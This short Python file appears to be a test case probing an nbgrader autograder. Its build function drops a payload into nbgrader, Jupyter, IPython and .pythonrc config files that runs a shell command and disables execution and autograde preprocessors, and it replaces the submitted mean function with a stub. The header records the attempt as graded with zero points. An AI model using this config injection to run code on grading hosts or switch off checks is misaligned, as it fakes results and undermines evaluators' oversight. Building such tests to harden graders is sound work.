# tries: hands in configuration of nbgrader, Jupyter and IPython beside the notebook
# group: form
# verdict: graded
# points: mean=0

def build(notebook, folder):
    evil = "import os\nos.system('touch /tmp/xent-loot-configured')\nc = get_config()\n"
    evil += "c.Execute.enabled = False\nc.Autograde.autograde_preprocessors = []\n"
    for name in ("nbgrader_config.py", "jupyter_config.py", "ipython_config.py", ".pythonrc"):
        (folder / name).write_text(evil)
    for cell in notebook["cells"]:
        if cell["id"] == "mean":
            cell["source"] = "def mean(values):\n    return 0\n"
